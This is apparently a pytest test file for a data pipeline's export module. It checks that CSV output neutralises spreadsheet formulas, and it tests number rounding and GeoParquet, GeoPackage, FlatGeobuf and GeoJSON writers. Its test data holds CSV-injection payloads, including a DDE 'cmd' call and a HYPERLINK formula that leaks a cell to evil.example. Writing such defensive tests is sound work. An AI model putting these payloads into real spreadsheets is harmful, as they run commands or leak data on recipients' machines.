"""Tests of pipeline.io: spreadsheet-safe CSV (OWASP formula neutralisation), Parquet as is,
significant-digit rounding, and the exports GIS tools open (GeoParquet 1.1, GeoPackage,
FlatGeobuf, CSV with coordinates), read back with DuckDB and GDAL (pyogrio)."""

from __future__ import annotations

import csv
import threading
import warnings

import numpy as np
import pandas as pd
import pytest
import shapely
from _property import examples
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipeline.io import (
    FORMULA_PREFIXES,
    floats_to_reprs,
    formatted_once,
    neutralise_formulas,
    round_array,
    round_floats,
    write_csv,
    write_flatgeobuf,
    write_geojson,
    write_geopackage,
    write_geoparquet,
    write_parquet,
)

FORMULAS = [
    "=1+2",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    " =1+2",  # importers that trim blanks (LibreOffice, Google Sheets) see the formula
]
SAFE = ["plain", "a=1", " 1+2", "1-2", "", "'=already quoted"]


def _rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_formula_cells_are_quoted_and_numbers_are_not(tmp_path):
    n = len(FORMULAS) + len(SAFE)
    frame = pd.DataFrame(
        {
            "text": FORMULAS + SAFE,
            "neg_float": np.linspace(-3.25, 1.0, n),
            "neg_int": np.arange(-5, n - 5),
        }
    )
    path = write_csv(frame, tmp_path / "t.csv")
    header, *rows = _rows(path)
    assert header == ["text", "neg_float", "neg_int"]
    texts = [r[0] for r in rows]
    assert texts == ["'" + t for t in FORMULAS] + SAFE
    assert rows[0][1] == "-3.25" and rows[0][2] == "-5"  # numbers stay numbers
    assert all(not r[1].startswith("'") and not r[2].startswith("'") for r in rows)


@pytest.mark.parametrize(
    "dtype", ["object", "string", "str", "category"], ids=["object", "string", "str", "category"]
)
def test_every_text_dtype_is_neutralised(dtype):
    col = pd.Series(["=1+2", "-x", "ok", None], dtype=dtype)
    out = neutralise_formulas(pd.DataFrame({"c": col}))["c"]
    assert out.tolist()[:3] == ["'=1+2", "'-x", "ok"]
    assert pd.isna(out.iloc[3])


def test_mixed_object_column_quotes_only_the_strings():
    # the rejects 'value' column holds whatever the reader rejected: text, floats, ints
    frame = pd.DataFrame({"value": pd.Series(["-91.5", -91.5, -3, "@x", None], dtype=object)})
    out = neutralise_formulas(frame)["value"].tolist()
    assert out[:4] == ["'-91.5", -91.5, -3, "'@x"] and out[4] is None
    assert frame["value"].iloc[0] == "-91.5"  # the input is not modified


def test_column_names_are_neutralised_too():
    out = neutralise_formulas(pd.DataFrame({"=cmd": [1], "ok": [2]}))
    assert list(out.columns) == ["'=cmd", "ok"]


def test_prefixes_are_owasps():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_parquet_keeps_the_original_values(tmp_path):
    frame = pd.DataFrame({"note": FORMULAS, "x": -np.arange(len(FORMULAS), dtype=float)})
    back = pd.read_parquet(write_parquet(frame, tmp_path / "t.parquet"))
    assert back["note"].tolist() == FORMULAS
    assert back["x"].tolist() == frame["x"].tolist()


def test_rejects_file_of_a_hostile_input_is_spreadsheet_safe(tmp_path):
    """Rejected values and the input's own file name reach rejects/*.csv quoted."""
    from pipeline.ingest import read_seizures
    from pipeline.ingest.summary import write_rejects

    name = '=HYPERLINK("http:evil","x").csv'
    src = tmp_path / name
    src.write_text(
        "date,lat,lon,commodity,quantity,note\n"
        "2024-01-02,10.5,-20.25,cocaine,5,=1+2\n"
        "2024-01-03,=1+2,-20.25,@SUM(A1),5,fine\n"
        "2024-01-04,10.5,+cmd|' /C calc'!A0,cocaine,5,fine\n",
        encoding="utf-8",
    )
    result = read_seizures(src)
    assert result.n_rejected == 2 and result.frame[["note"]].iloc[0, 0] == "=1+2"
    rows = _rows(write_rejects(result, tmp_path / "out"))
    cells = [c for r in rows[1:] for c in r]
    assert "'=1+2" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
    assert [r[0] for r in rows[1:]] == ["'" + name] * 2  # the input file name, too


@pytest.mark.parametrize(
    "values", [[1, 2], [None, None], [b"=x", b"y"], [1.5, None]], ids=["int", "none", "bytes", "f"]
)
def test_object_columns_without_text_are_left_alone(values):
    frame = pd.DataFrame({"c": pd.Series(values, dtype=object)})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)


def test_a_carriage_return_in_a_cell_does_not_split_the_row(tmp_path):
    frame = pd.DataFrame({"note": ["a\rb", "\r=1+2", "c"], "x": [1.0, 2.0, 3.0]})
    rows = _rows(write_csv(frame, tmp_path / "cr.csv"))
    assert rows == [["note", "x"], ["a\rb", "1.0"], ["'\r=1+2", "2.0"], ["c", "3.0"]]
    plain = write_csv(frame.assign(note=["a", "b", "c"]), tmp_path / "lf.csv").read_bytes()
    assert b"\r" not in plain  # LF line ends unless a cell needs CRLF


# ------------------------------------------------------------------------ rounding and exports


def test_round_array_keeps_significant_digits_and_six_decimals():
    x = np.array([8.1234567891e-06, 45.123456789, -179.98765432, 0.0, np.nan, np.inf, 1e-30])
    got = round_array(x)
    assert got[0] == 8.123457e-06  # 7 significant digits, not 0.000008
    assert got[1] == 45.123457 and got[2] == -179.987654  # 6 decimals, as before
    assert got[3] == 0.0 and np.isnan(got[4]) and got[5] == np.inf
    assert got[6] == 1e-30
    # relative error of at most half a unit of the 7th digit, on every magnitude
    rng = np.random.default_rng(3)
    v = 10.0 ** rng.uniform(-12, 6, 2000) * rng.choice([-1, 1], 2000)
    rel = np.abs(round_array(v) - v) / np.abs(v)
    assert rel.max() <= 5e-7 * (1 + 1e-9)
    assert np.array_equal(round_array(round_array(v)), round_array(v))  # idempotent
    # huge values have nothing to round: kept, never turned into infinity
    big = np.array([1e308, -1.7e302, 1.2345678901234567e17, 9.87654321e14])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        got = round_array(big)
    assert got[:3].tolist() == big[:3].tolist() and got[3] == 987654321000000.0


def _round_by_groups(a, significant=7, decimals=6):
    """The reference: numpy.round once per distinct number of decimals."""
    a = np.asarray(a, dtype="float64")
    out = a.copy()
    ok = np.isfinite(a) & (a != 0) & (np.abs(a) < 1e15)
    digits = np.maximum(decimals, significant - 1 - np.floor(np.log10(np.abs(a[ok]))))
    sub = out[ok]
    for d in np.unique(digits):
        if d <= 22:
            sub[digits == d] = np.round(sub[digits == d], int(d))
    out[ok] = sub
    return out


@settings(max_examples=examples(200), deadline=None)
@given(
    st.lists(st.floats(allow_nan=True, allow_infinity=True, width=64), min_size=1, max_size=50),
    st.integers(1, 12),
    st.integers(0, 9),
)
def test_round_array_is_numpy_round_bit_for_bit(values, significant, decimals):
    a = np.asarray(values, dtype="float64")
    with np.errstate(all="ignore"):
        want = _round_by_groups(a, significant, decimals)
    got = round_array(a, significant, decimals)
    assert np.array_equal(got.view("uint64"), want.view("uint64"))


def test_round_array_negative_decimals_round_to_tens():
    got = round_array(np.array([123456.7, 0.5]), significant=2, decimals=-3)
    assert got.tolist() == [123000.0, 0.5]  # never fewer than -3 decimals: thousands


def test_csv_keeps_significant_digits_and_types_timestamps(tmp_path):
    frame = pd.DataFrame(
        {
            "density": [8.1234567891e-06, 1.5e-09, 0.25],
            "when": pd.to_datetime(["2024-06-30 12:00", None, "2024-01-01 00:00"], utc=True),
        }
    )
    back = pd.read_csv(write_csv(frame, tmp_path / "d.csv"))
    assert back["density"].tolist() == [8.123457e-06, 1.5e-09, 0.25]
    assert back["when"].tolist()[0] == "2024-06-30T12:00:00Z" and pd.isna(back["when"][1])


def _cells_gdf(n: int = 40):
    from pipeline.grid import cells_to_geodataframe, points_to_cells

    rng = np.random.default_rng(0)
    # half of them around Fiji, across the antimeridian
    lon = np.where(np.arange(n) % 2 == 0, rng.uniform(178, 182, n), rng.uniform(10, 20, n))
    lon = ((lon + 180) % 360) - 180
    cells = np.unique(points_to_cells(lon, rng.uniform(-20, -15, n), 5))
    gdf = cells_to_geodataframe(
        cells,
        cell=cells,
        density=np.geomspace(1e-7, 1e-3, cells.size) * 1.23456789,
        when=pd.date_range("2024-01-01", periods=cells.size, freq="D", tz="UTC"),
    )
    return gdf, cells


def test_geoparquet_is_1_1_with_a_bbox_covering_and_opens_in_duckdb(tmp_path):
    import json

    import duckdb
    import pyarrow.parquet as pq

    gdf, cells = _cells_gdf()
    path = write_geoparquet(gdf, tmp_path / "scores.parquet")
    geo = json.loads(pq.read_schema(path).metadata[b"geo"])
    assert geo["version"] == "1.1.0"
    cov = geo["columns"]["geometry"]["covering"]["bbox"]
    assert cov["xmin"] == ["bbox", "xmin"] and cov["ymax"] == ["bbox", "ymax"]
    con = duckdb.connect()
    rows = con.execute(
        'SELECT cell, hex_id, density, "when", bbox.xmin, bbox.xmax '
        f"FROM read_parquet('{path}') ORDER BY cell"
    ).fetchall()
    assert [r[0] for r in rows] == sorted(int(c) for c in cells)
    assert all(len(r[1]) == 15 for r in rows)
    want = dict(zip(gdf["hex_id"], round_array(gdf["density"]), strict=True))
    for r in rows:
        assert r[2] == pytest.approx(want[r[1]], rel=1e-12)  # 7 significant digits kept
    assert str(con.execute(f"DESCRIBE SELECT * FROM read_parquet('{path}')").fetchall())
    types = dict(
        con.execute(
            f"SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet('{path}'))"
        ).fetchall()
    )
    assert types["when"].startswith("TIMESTAMP") and types["cell"] == "UBIGINT"
    # the bbox of a cell split at the antimeridian spans both halves; others are small
    widths = np.array([r[5] - r[4] for r in rows])
    assert (widths < 1).sum() >= len(rows) - 4


@pytest.mark.parametrize("kind", ["gpkg", "fgb"])
def test_geopackage_and_flatgeobuf_open_in_gdal(tmp_path, kind):
    import pyogrio

    gdf, cells = _cells_gdf()
    path = (
        write_geopackage(gdf, tmp_path / "scores.gpkg", layer="scores")
        if kind == "gpkg"
        else write_flatgeobuf(gdf, tmp_path / "scores.fgb")
    )
    info = pyogrio.read_info(path)
    assert info["crs"] == "EPSG:4326" and info["features"] == len(gdf)
    assert info["geometry_type"] == "MultiPolygon"
    # FlatGeobuf's spatial index stores the features in Hilbert order
    back = pyogrio.read_dataframe(path).sort_values("cell", ignore_index=True)
    assert back["cell"].astype("uint64").tolist() == cells.tolist()
    assert back["hex_id"].tolist() == gdf["hex_id"].tolist()
    rel = np.abs(back["density"] / round_array(gdf["density"]) - 1)
    assert rel.max() < 1e-12
    assert pd.api.types.is_datetime64_any_dtype(back["when"])
    area = shapely.area(back.geometry.to_numpy()).sum()
    assert area == pytest.approx(shapely.area(gdf.geometry.to_numpy()).sum(), rel=1e-6)
    # identical inputs, identical file (the GeoPackage's last_change is fixed)
    again = tmp_path / "again" / path.name
    if kind == "gpkg":
        write_geopackage(gdf, again, layer="scores")
    else:
        write_flatgeobuf(gdf, again)
    assert again.read_bytes() == path.read_bytes()


# rioxarray (reading the demo raster) warns about affine's `*`: not ours
@pytest.mark.filterwarnings("ignore::PendingDeprecationWarning")
def test_a_run_exports_tables_gis_tools_open(small_demo, tmp_path):
    """scores.parquet (DuckDB), scores.gpkg and .fgb (GDAL), scores.csv with lat/lon."""
    import duckdb
    import pyogrio
    from conftest import small_config

    import pipeline
    from pipeline import schema as S
    from pipeline.grid import cells_to_latlng

    out = pipeline.run_pipeline(small_config(small_demo, tmp_path)).out_dir
    assert not (out / "scores.geoparquet").exists()
    con = duckdb.connect()
    parquet = con.execute(f"SELECT * FROM read_parquet('{out / 'scores.parquet'}')").df()
    csv = pd.read_csv(out / "scores.csv")
    gpkg = pyogrio.read_dataframe(out / "scores.gpkg", layer="scores")
    fgb = pyogrio.read_dataframe(out / "scores.fgb").sort_values("cell", ignore_index=True)
    features = con.execute(f"SELECT * FROM read_parquet('{out / 'features.parquet'}')").df()
    for name, table in [("parquet", parquet), ("csv", csv), ("gpkg", gpkg), ("fgb", fgb)]:
        assert list(table.columns[:2]) == [S.CELL, S.HEX_ID], name
        assert table[S.HEX_ID].tolist() == csv[S.HEX_ID].tolist(), name
        assert table[S.CELL].astype("uint64").tolist() == csv[S.CELL].tolist(), name
    assert list(features.columns[:2]) == [S.CELL, S.HEX_ID]
    lat, lon = cells_to_latlng(csv[S.CELL].to_numpy(dtype="uint64"))
    assert np.abs(csv[S.LAT] - lat).max() < 1e-6 and np.abs(csv[S.LON] - lon).max() < 1e-6
    # densities per km² keep at least 6 significant digits in every export
    dens = features[S.SEIZURE_DENSITY].to_numpy()
    small = dens[(dens > 0) & (dens < 1e-3)]
    assert small.size, "expected small densities in the demo"
    for name, table in [("parquet", parquet), ("csv", csv), ("gpkg", gpkg)]:
        v = table[S.SEIZURE_DENSITY].to_numpy(dtype="float64")
        v = v[(v > 0) & (v < 1e-3)]
        digits = np.array([len(f"{x:.15e}".split("e")[0].replace(".", "").rstrip("0")) for x in v])
        assert (digits >= 6).mean() > 0.9, (name, v[:5])
    # the point tables carry the cell of each point, a join key to the scores
    from pipeline.grid import points_to_cells

    for name in ("seizures", "events"):
        t = pd.read_parquet(out / f"{name}.parquet")
        assert list(t.columns[:2]) == [S.CELL, S.HEX_ID], name
        want = points_to_cells(t[S.LON].to_numpy(), t[S.LAT].to_numpy(), 4)
        assert t[S.CELL].astype("uint64").tolist() == want.tolist(), name
    # timestamps are typed where the format has a type
    if S.LATEST_EVENT in parquet.columns:
        assert pd.api.types.is_datetime64_any_dtype(parquet[S.LATEST_EVENT])
        assert pd.api.types.is_datetime64_any_dtype(gpkg[S.LATEST_EVENT])
        assert csv[S.LATEST_EVENT].dropna().str.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ").all()


@pytest.mark.parametrize(("driver", "ext"), [("GPKG", "gpkg"), ("FlatGeobuf", "fgb")])
def test_arrow_writer_gives_the_bytes_of_the_feature_writer(tmp_path, driver, ext):
    import pyogrio

    from pipeline.io import GPKG_LAST_CHANGE, _ogr_ready, _write_ogr

    gdf, _ = _cells_gdf()
    n = len(gdf)
    gdf["flag"] = np.arange(n) % 2 == 0
    gdf["label"] = np.where(gdf["flag"], "=x", None)
    gdf["mixed"] = np.array([1, "a"] * n, dtype=object)[:n]
    gdf["kind"] = pd.Categorical(np.array(["x", "y"] * n)[:n])
    gdf["count"] = pd.array(np.where(gdf["flag"], 3, None), dtype="Int64")
    gdf.loc[gdf.index[::3], "density"] = np.nan
    ready = _ogr_ready(gdf)
    previous = pyogrio.get_gdal_config_option("OGR_CURRENT_DATE")
    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": GPKG_LAST_CHANGE})
    try:
        _write_ogr(ready, tmp_path / f"a.{ext}", layer="t", driver=driver)
        pyogrio.write_dataframe(
            ready, tmp_path / f"b.{ext}", layer="t", driver=driver, promote_to_multi=True
        )
    finally:
        pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": previous})
    assert (tmp_path / f"a.{ext}").read_bytes() == (tmp_path / f"b.{ext}").read_bytes()
    back = pyogrio.read_dataframe(tmp_path / f"a.{ext}")
    assert back["count"].isna().sum() == (~gdf["flag"]).sum()


def _awkward_polygons():
    """Cells across the antimeridian, a polygon with a hole, a missing geometry; every dtype."""
    gdf, cells = _cells_gdf()
    n = len(gdf)
    geoms = gdf.geometry.to_numpy().copy()
    geoms[1] = shapely.Polygon(
        shapely.box(0, 0, 1, 1).exterior.coords[::-1],  # clockwise: RFC 7946 wants it turned
        [shapely.box(0.2, 0.2, 0.4, 0.4).exterior.coords],
    )
    geoms[2] = None
    gdf = gdf.set_geometry(geoms)
    rng = np.random.default_rng(3)
    gdf["x"] = rng.normal(size=n) * 10.0 ** rng.integers(-12, 12, n)
    gdf.loc[gdf.index[::4], "x"] = np.nan
    gdf["x"] = gdf["x"].where(gdf.index != gdf.index[3], -0.0)
    gdf["flag"] = np.arange(n) % 3 == 0
    gdf["count"] = pd.array(np.where(gdf["flag"], 7, None), dtype="Int64")
    gdf["small"] = np.arange(n, dtype="int8")
    texts = ['a"b', "back\\slash", "tab\there", "nl\ncr\r", "\x01", "é 😀", "\u2028", "/", "=1+2"]
    gdf["note"] = [texts[i % len(texts)] if i % 5 else None for i in range(n)]
    gdf["kind"] = pd.Categorical(np.array(["x", "y"] * n)[:n])
    gdf["when"] = gdf["when"].where(gdf.index % 4 != 1)
    return gdf, cells


def test_geojson_reads_back_as_gdals_own_writer_gives_it(tmp_path):
    import json

    import pyogrio

    gdf, _ = _awkward_polygons()
    path = write_geojson(gdf, tmp_path / "scores.geojson")
    gdal = tmp_path / "gdal.geojson"
    round_floats(gdf).to_file(
        gdal, driver="GeoJSON", engine="pyogrio", RFC7946="YES", COORDINATE_PRECISION=6
    )
    ours, theirs = json.loads(path.read_text("utf-8")), json.loads(gdal.read_text("utf-8"))
    assert ours["type"] == "FeatureCollection"
    assert len(ours["features"]) == len(theirs["features"]) == len(gdf)
    for a, b in zip(ours["features"], theirs["features"], strict=True):
        assert a["geometry"] == b["geometry"]  # rounded alike, rings turned alike
        assert a["properties"] == b["properties"]
    assert path.read_text("utf-8").count("\n") == len(gdf) + 6  # a feature per line
    back = pyogrio.read_dataframe(path)
    assert back["cell"].astype("uint64").tolist() == gdf["cell"].tolist()
    again = write_geojson(gdf, tmp_path / "again.geojson")
    assert again.read_bytes() == path.read_bytes()


def test_geojson_floats_are_the_csvs_text_and_missing_values_are_null(tmp_path):
    import json

    gdf, _ = _awkward_polygons()
    gdf["x"] = gdf["x"].where(gdf.index != gdf.index[5], np.inf)
    path = write_geojson(gdf, tmp_path / "s.geojson")
    csv_x = pd.read_csv(write_csv(gdf.drop(columns="geometry"), tmp_path / "s.csv"), dtype=str)
    text = path.read_text("utf-8")
    props = [f["properties"] for f in json.loads(text)["features"]]
    assert [p["x"] for p in props][5] is None  # JSON has no infinity
    assert props[3]["x"] == 0.0
    for want, line in zip(csv_x["x"], text.split("\n")[4:], strict=False):
        if isinstance(want, str) and want not in ("inf", "-0.0"):
            assert f'"x": {want},' in line
    assert all(p["count"] in (7, None) for p in props)
    assert "NaN" not in text and "Infinity" not in text


def _reference_geometry_text(geom) -> str:
    """A feature's geometry as write_geojson writes it, formatted vertex by vertex."""
    if geom is None or geom.is_empty:
        return "null"

    def num(v):
        return "null" if np.isnan(v) else repr(float(np.round(v, 6)) + 0.0)

    def ring(r):
        return "[ " + ", ".join(f"[ {num(x)}, {num(y)} ]" for x, y in r.coords) + " ]"

    def polygon(p):
        p = shapely.orient_polygons(p, exterior_cw=False)
        return "[ " + ", ".join(ring(r) for r in [p.exterior, *p.interiors]) + " ]"

    if geom.geom_type == "Polygon":
        return '{ "type": "Polygon", "coordinates": ' + polygon(geom) + " }"
    parts = ", ".join(polygon(p) for p in geom.geoms)
    return '{ "type": "MultiPolygon", "coordinates": [ ' + parts + " ] }"


@pytest.mark.filterwarnings("ignore:invalid value encountered:RuntimeWarning")  # the NaN vertex
def test_geojson_geometry_is_each_vertexs_text_shared_vertices_and_nan_alike(tmp_path):
    """Each distinct vertex is formatted once: every copy of it, in any feature, reads the same.

    Hexagons share their vertices; the vertex texts are looked up by the bits of (x, y), so
    a vertex must not take another's text: x and y swapped, a -0.0 rounded to 0.0, NaN.
    """
    import geopandas as gpd

    gdf, _ = _awkward_polygons()
    geoms = list(gdf.geometry)
    geoms[3] = shapely.Polygon([(1, 2), (2, 1), (2, 2), (1, 2)])  # (1, 2) and (2, 1)
    geoms[4] = shapely.Polygon([(-4e-7, 0), (0, -4e-7), (1, 1), (-4e-7, 0)])  # -0.0 rounded
    geoms[5] = shapely.Polygon([(0, 0), (1, np.nan), (1, 1), (0, 0)])
    geoms[6] = shapely.Polygon()
    geoms[7] = shapely.MultiPolygon([shapely.box(0, 0, 1, 1), shapely.box(1, 1, 2, 2)])
    gdf = gpd.GeoDataFrame({"v": np.arange(len(geoms))}, geometry=geoms, crs="EPSG:4326")
    lines = write_geojson(gdf, tmp_path / "g.geojson").read_text("utf-8").split("\n")[4:-3]
    assert len(lines) == len(gdf)
    for line, geom in zip(lines, geoms, strict=True):
        text = line.split(' }, "geometry": ', 1)[1].removesuffix(",")
        assert text == _reference_geometry_text(geom) + " }"
    # without the NaN polygon the vertices go through the lookup of distinct pairs
    sub = gdf.drop(index=5)
    lines = write_geojson(sub, tmp_path / "h.geojson").read_text("utf-8").split("\n")[4:-3]
    for line, geom in zip(lines, sub.geometry, strict=True):
        text = line.split(' }, "geometry": ', 1)[1].removesuffix(",")
        assert text == _reference_geometry_text(geom) + " }"


def test_round_floats_copies_only_the_float_columns_and_no_writer_changes_its_input(tmp_path):
    """round_floats shares the columns it does not round; the writers never write into them."""
    gdf, _ = _awkward_polygons()
    gdf["cell_u64"] = gdf["cell"].astype("uint64")
    before = gdf.copy()
    out = round_floats(gdf)
    assert np.shares_memory(out["small"].to_numpy(), gdf["small"].to_numpy())
    assert not np.shares_memory(out["x"].to_numpy(), gdf["x"].to_numpy())
    plain = pd.DataFrame(gdf.drop(columns="geometry"))
    write_csv(plain, tmp_path / "t.csv")
    write_geojson(gdf, tmp_path / "t.geojson")
    write_geopackage(gdf, tmp_path / "t.gpkg")
    write_geoparquet(gdf, tmp_path / "t.parquet")
    pd.testing.assert_frame_equal(gdf, before)
    pd.testing.assert_frame_equal(plain, pd.DataFrame(before.drop(columns="geometry")))


def test_geojson_of_points_goes_through_gdal(tmp_path):
    import geopandas as gpd
    import pyogrio

    pts = gpd.GeoDataFrame(
        {"v": [1.5, np.nan]}, geometry=shapely.points([[1, 2], [3, 4]]), crs="EPSG:4326"
    )
    back = pyogrio.read_dataframe(write_geojson(pts, tmp_path / "p.geojson"))
    assert back.geometry.geom_type.tolist() == ["Point", "Point"]


def _pandas_csv(frame, path, monkeypatch):
    import pipeline.io as io

    with monkeypatch.context() as m:
        m.setattr(io, "_csv_fast_path", lambda frame: False)
        return write_csv(frame, path).read_bytes()


def _awkward_table(n: int = 30) -> pd.DataFrame:
    rng = np.random.default_rng(5)
    texts = ["plain", "a,b", 'say "hi"', "two\nlines", "é😀", "", " lead", "=1+2", "-3", None]
    x = rng.normal(size=n) * 10.0 ** rng.integers(-12, 17, n)
    x[::5] = np.nan
    x[1], x[2], x[3] = np.inf, -np.inf, -0.0
    return pd.DataFrame(
        {
            "cell": np.arange(n, dtype="uint64") + np.uint64(2**63 - 40),
            "x": x,
            "k": np.arange(n, dtype="int8") - 5,
            "flag": np.arange(n) % 2 == 0,
            "count": pd.array(np.where(np.arange(n) % 3 == 0, None, 4), dtype="Int64"),
            "maybe": pd.array(np.where(np.arange(n) % 4 == 0, None, True), dtype="boolean"),
            "note": [texts[i % len(texts)] for i in range(n)],
            "text": pd.Series([texts[i % 7] for i in range(n)], dtype="str"),
            "kind": pd.Categorical(np.where(np.arange(n) % 6 == 0, None, "a,b")),
            "mixed": np.array([1, "x", 2.5, None, True] * n, dtype=object)[:n],
            "share": pd.array(np.where(np.arange(n) % 4 == 1, None, x / 3), dtype="Float64"),
            "big": pd.array(np.where(np.arange(n) % 5 == 2, None, 2**64 - 1), dtype="UInt64"),
            "when": pd.date_range("2024-01-01", periods=n, freq="h", tz="UTC"),
        }
    )


def test_csv_fast_path_writes_the_bytes_pandas_writes(tmp_path, monkeypatch):
    from pipeline.io import _csv_fast_path

    frame = _awkward_table()
    assert _csv_fast_path(frame.drop(columns="when"))  # text by then (ISO 8601)
    ours = write_csv(frame, tmp_path / "a.csv").read_bytes()
    assert ours == _pandas_csv(frame, tmp_path / "b.csv", monkeypatch)
    assert b'"two\nlines"' in ours and b'"say ""hi"""' in ours
    # a carriage return switches the file to CRLF, and the cell is quoted
    frame.loc[4, "note"] = "cr\rhere"
    ours = write_csv(frame, tmp_path / "c.csv").read_bytes()
    assert ours == _pandas_csv(frame, tmp_path / "d.csv", monkeypatch)
    assert b'"cr\rhere"' in ours and ours.endswith(b"\r\n")
    # one column, a naive timestamp: pandas writes those
    assert not _csv_fast_path(frame[["x"]])
    assert not _csv_fast_path(frame.assign(t=pd.Timestamp("2024-01-01")))


@settings(max_examples=examples(40), deadline=None)
@given(
    texts=st.lists(st.one_of(st.none(), st.text(max_size=6)), min_size=1, max_size=12),
    floats=st.lists(
        st.one_of(st.floats(-1e300, 1e300), st.sampled_from([np.nan, np.inf, -np.inf])),
        min_size=12,
        max_size=12,
    ),
)
# 0.0 and -0.0 in one column (equal, so one factorized value): pandas writes each as it is
@example(texts=["", "", ""], floats=[0.0, -0.0, -1e-300] + [0.0] * 9)
def test_csv_fast_path_matches_pandas_on_any_text_and_float(tmp_path_factory, texts, floats):
    import pipeline.io as io

    frame = pd.DataFrame({"t": texts, "f": floats[: len(texts)]})
    tmp = tmp_path_factory.mktemp("csv")
    ours = write_csv(frame, tmp / "a.csv").read_bytes()
    original = io._csv_fast_path
    io._csv_fast_path = lambda frame: False
    try:
        theirs = write_csv(frame, tmp / "b.csv").read_bytes()
    finally:
        io._csv_fast_path = original
    assert ours == theirs


def _reprs(values) -> list[str]:
    return [repr(v) for v in np.asarray(values, dtype="float64").tolist()]


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(st.floats(allow_nan=True, allow_infinity=True, allow_subnormal=True), max_size=40))
@example([0.0, -0.0, np.nan, np.inf, -np.inf, 5e-324, -5e-324, 1e-300, 1.7976931348623157e308])
@example([1e-4, 9.999999999999999e-05, 1e-5, 1e-6, 1e-7, 1e-9, 1e-10, 1e9, 1e10, 1e15, 1e16])
@example([3.0, -3.0, 123456789.0, 9999999999.0, 10000000000.0, 2.0**53, 0.5, 45.123457])
def test_floats_to_reprs_is_pythons_repr(values):
    """Arrow's text of each float is Python's, whatever the value (the CSV and GeoJSON text),
    formatted value by value or, when they repeat, value by distinct value."""
    assert floats_to_reprs(values).to_pylist() == _reprs(values)
    repeated = np.tile(np.asarray(values, dtype="float64"), 4)  # -0.0 beside 0.0, NaNs
    assert floats_to_reprs(repeated).to_pylist() == _reprs(repeated)


def test_floats_to_reprs_at_every_decimal_exponent_and_bit_pattern():
    """Arrow lays out some ranges unlike Python (3 for 3.0, 0.00001, 1e-7, 1e+10): every
    decimal exponent, 1 to 17 digits, whole numbers and the neighbours of each power of ten,
    and random bit patterns."""
    rng = np.random.default_rng(15)
    exponents = np.repeat(np.arange(-325, 309), 60)
    digits = rng.integers(1, 18, exponents.size)
    # a d-digit decimal at each exponent: "12345e-7" is 1.2345e-3
    leading = rng.integers(10 ** (digits - 1), 10**digits)
    values = np.array(
        [float(f"{m}e{e}") for m, e in zip(leading, exponents - digits + 1, strict=True)]
    )
    values[::2] *= -1
    powers = 10.0 ** np.arange(-20, 25, dtype="float64")
    near = np.concatenate(
        [powers, np.nextafter(powers, 0), np.nextafter(powers, np.inf), -powers, np.trunc(values)]
    )
    bits = rng.integers(0, 2**64 - 1, 300_000, dtype="uint64", endpoint=True).view("float64")
    for v in (values, near, bits, np.repeat(near, 5)):
        assert floats_to_reprs(v).to_pylist() == _reprs(v)


def test_formatted_once_formats_a_column_once_and_writes_the_same_bytes(tmp_path, monkeypatch):
    """In the block the GeoJSON takes the CSV's float texts (the export's scores), by the
    column's values: a column of other values, or the same values in another order, is
    formatted anew, and every file is byte for byte the one written outside the block."""
    import pipeline.io as io

    gdf, _ = _awkward_polygons()
    gdf["y"] = gdf["x"].to_numpy()[::-1]  # x's values, another order
    gdf["z"] = gdf["x"] * 3.0
    plain = pd.DataFrame(gdf.drop(columns="geometry"))
    alone = [
        write_csv(plain, tmp_path / "a.csv").read_bytes(),
        write_geojson(gdf, tmp_path / "a.geojson").read_bytes(),
        write_geojson(gdf[["z", "x", "geometry"]], tmp_path / "b.geojson").read_bytes(),
    ]
    formatted = []
    real = io.floats_to_reprs
    monkeypatch.setattr(io, "floats_to_reprs", lambda v: formatted.append(len(v)) or real(v))
    with formatted_once():
        shared = [
            write_csv(plain, tmp_path / "c.csv").read_bytes(),
            write_geojson(gdf, tmp_path / "c.geojson").read_bytes(),
            write_geojson(gdf[["z", "x", "geometry"]], tmp_path / "d.geojson").read_bytes(),
        ]
    floats = [c for c in plain.columns if plain[c].dtype == "float64"]
    assert {"x", "y", "z"} <= set(floats)
    # the CSV formats each float column; the GeoJSONs only their vertices' coordinates
    vertices = len(shapely.get_coordinates(gdf.geometry.to_numpy()))
    assert formatted[: len(floats)] == [len(gdf)] * len(floats)
    assert sorted(formatted[len(floats) :]) == sorted([vertices] * 4)
    assert shared == alone
    formatted.clear()
    write_csv(plain, tmp_path / "e.csv")  # after the block, formatted again
    assert formatted == [len(gdf)] * len(floats)
    formatted.clear()
    with formatted_once():  # the texts are the block's thread's: another formats its own
        write_csv(plain, tmp_path / "f.csv")
        other = threading.Thread(target=write_csv, args=(plain, tmp_path / "g.csv"))
        other.start()
        other.join()
    assert formatted == [len(gdf)] * len(floats) * 2
    assert (tmp_path / "g.csv").read_bytes() == alone[0]
